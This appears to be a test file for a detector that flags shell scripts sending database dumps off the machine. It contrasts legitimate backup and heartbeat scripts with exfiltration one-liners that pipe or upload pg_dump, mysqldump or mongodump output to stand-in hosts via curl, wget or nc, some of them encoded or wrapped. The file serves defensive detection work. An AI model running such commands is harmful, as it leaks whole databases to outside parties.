import { cronJob, indicatorTable, script, UNSEEN } from '../testing.ts';
import { commandDataSend } from './data-send.ts';

indicatorTable(commandDataSend, {
  fires: {
    'a dump in the body of a request': script(
      'pg_dump orders | gzip | curl -s --data-binary @- https://collect.example.com/u',
    ),
    'through a file': script('mysqldump --all-databases > /tmp/d.sql; curl -F "f=@/tmp/d.sql" http://203.0.113.7/'),
    'joined options': script('pg_dump orders > /tmp/d; curl -sST /tmp/d https://collect.example.com/'),
    'an option with a sign of equality': script(
      'pg_dumpall -U postgres > /tmp/d; wget -q --post-file=/tmp/d http://203.0.113.7:8000/',
    ),
    'a file that the client of the database writes itself': script(
      'pg_dump -Fc -f /tmp/o.dump orders && curl -T /tmp/o.dump https://collect.example.com/',
    ),
    'an archive of a document store': script(
      'mongodump --archive=/tmp/m.gz --gzip; curl --upload-file /tmp/m.gz https://collect.example.com/',
    ),
    'a connection without a protocol': script('mysqldump shop | nc 203.0.113.7 9000'),
    'encoded, in a variable': script('D=$(pg_dump orders | base64 -w0); curl -d "d=$D" https://collect.example.com/'),
    'behind wrappers': script('sudo -u postgres nice -n 19 pg_dump a | timeout 60 curl --json @- http://203.0.113.7/'),
  },
  staysSilent: {
    'into a bucket': script('pg_dump orders | gzip | aws s3 cp - s3://acme-backups/orders.gz'),
    'into a bucket by a file': script('mysqldump shop > /b/s.sql; gsutil cp /b/s.sql gs://acme-backups/'),
    'by rclone': script('mongodump --archive=/b/m.gz --gzip; rclone copy /b/m.gz remote:backups'),
    'to a store on the network of the house': script('pg_dump a > /b/a.sql; rsync -a /b/ backup@nas.example.com:/b/'),
    'onto a volume': script('pg_dump -Fc -f /backup/orders.dump orders'),
    'with a heartbeat afterwards': script('pg_dump a > /b/a.sql && curl -fsS -m 10 https://hc.example.com/ping/1'),
    'with the size in a heartbeat': script(
      'pg_dump a > /b/a.sql; SIZE=$(stat -c %s /b/a.sql); curl -d "size=$SIZE" https://hc.example.com/ping/1',
    ),
    'with a message that it failed': script(
      `pg_dump a > /b/a.sql || curl -X POST -d '{"text":"backup failed"}' https://chat.example.com/hook`,
    ),
    'to a service of the cluster': script('pg_dump a | curl --data-binary @- http://backup.shop.svc:8080/a'),
    'straight into another database': script('pg_dump "$OLD" | psql "$NEW"'),
    'a copy on the volume of another container': cronJob({
      containers: [
        { name: 'dump', image: 'a', command: ['pg_dump', '-f', '/b/a.sql', 'a'] },
        { name: 'ping', image: 'a', command: ['curl', 'https://hc.example.com/ping/1'] },
      ],
    }),
  },
  cannotTell: UNSEEN,
});
